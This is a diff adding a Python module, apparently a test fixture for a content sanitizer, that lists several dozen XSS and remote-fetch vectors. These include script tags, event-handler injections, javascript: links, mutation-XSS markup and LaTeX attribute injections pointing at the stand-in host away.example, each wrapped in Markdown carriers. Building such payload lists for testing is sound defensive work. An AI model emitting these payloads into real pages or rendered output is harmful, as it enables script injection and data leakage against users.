@@ -1,0 +1,82 @@
+"""What a hostile model or document would write to make a page fetch, run or style something."""
+
+from __future__ import annotations
+
+from itertools import product
+
+AWAY = "https://away.example/"
+
+VECTORS = (
+    f"<script>fetch('{AWAY}')</script>",
+    f"<script src={AWAY}x.js></script>",
+    f"<img src={AWAY}x.png>",
+    f"<img src=x onerror=fetch('{AWAY}')>",
+    f"<svg onload=fetch('{AWAY}')>",
+    f"<svg><image href={AWAY}x.png /></svg>",
+    f"<svg><use href='{AWAY}x.svg#a'/></svg>",
+    f"<svg><style>@import '{AWAY}x.css'</style></svg>",
+    f"<style>body{{background:url({AWAY})}}</style>",
+    f"<p style='background:url({AWAY})'>a</p>",
+    f"<link rel=stylesheet href={AWAY}x.css>",
+    f"<link rel=dns-prefetch href={AWAY}>",
+    f"<iframe src={AWAY}></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    f"<object data={AWAY}></object>",
+    f"<embed src={AWAY}>",
+    f"<video poster={AWAY}><source src={AWAY}></video>",
+    f"<audio src={AWAY} autoplay></audio>",
+    f"<input type=image src={AWAY}>",
+    f"<form action={AWAY}><button>a</button></form>",
+    f"<button formaction={AWAY}>a</button>",
+    f"<a href={AWAY}>a</a>",
+    f"<a ping={AWAY} href=/>a</a>",
+    "<a href='javascript:alert(1)'>a</a>",
+    f"<base href={AWAY}>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<body background={AWAY}>",
+    f"<table background={AWAY}><tr><td>a</td></tr></table>",
+    "<details open ontoggle=alert(1)>a</details>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    f"<math href={AWAY}><mi>x</mi></math>",
+    f"<math><annotation-xml encoding='text/html'><img src={AWAY}></annotation-xml></math>",
+    f"<noscript><p title='</noscript><img src={AWAY}>'>",
+    "<template><script>alert(1)</script></template>",
+    f"<!--><img src={AWAY}>-->",
+    f"<div hx-get={AWAY} hx-trigger=load>a</div>",
+    f"<div data-stream={AWAY}>a</div>",
+    f"[a]({AWAY})",
+    f"[a](<{AWAY}>)",
+    "[a](javascript:alert(1))",
+    f"![a]({AWAY}x.png)",
+    f"![a][r]\n\n[r]: {AWAY}x.png",
+    f"[a][r]\n\n[r]: {AWAY}",
+    f"<{AWAY}>",
+    AWAY,
+    f"\\href{{{AWAY}}}{{x}}",
+    "\\href{javascript:alert(1)}{x}",
+    f"\\includegraphics{{{AWAY}x.png}}",
+    f"\\url{{{AWAY}}}",
+    f"\\text{{<img src={AWAY}>}}",
+    f"\\style{{background:url({AWAY})}}{{x}}",
+    '\\class{x" onmouseover="alert(1)}{y}',
+    '\\color{red" onclick="alert(1)}{y}',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+)
+
+CARRIERS = (
+    "{}",
+    "a {} b",
+    "- {}",
+    "> {}",
+    "# {}",
+    "| a |\n|---|\n| {} |",
+    "`{}`",
+    "```html\n{}\n```",
+    "```{}\na\n```",
+    "${}$",
+    "$$\n{}\n$$",
+    "**{}**",
+)
+
+PAYLOADS = tuple(carrier.format(vector) for carrier, vector in product(CARRIERS, VECTORS))
